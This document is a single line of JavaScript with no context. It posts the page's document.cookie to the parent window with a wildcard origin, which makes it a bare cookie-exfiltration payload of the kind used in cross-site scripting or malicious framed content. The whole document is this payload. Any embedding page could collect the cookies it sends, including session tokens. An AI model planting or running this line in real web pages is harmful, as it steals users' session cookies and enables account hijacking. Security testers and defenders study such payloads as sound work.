parent.postMessage(document.cookie, '*');
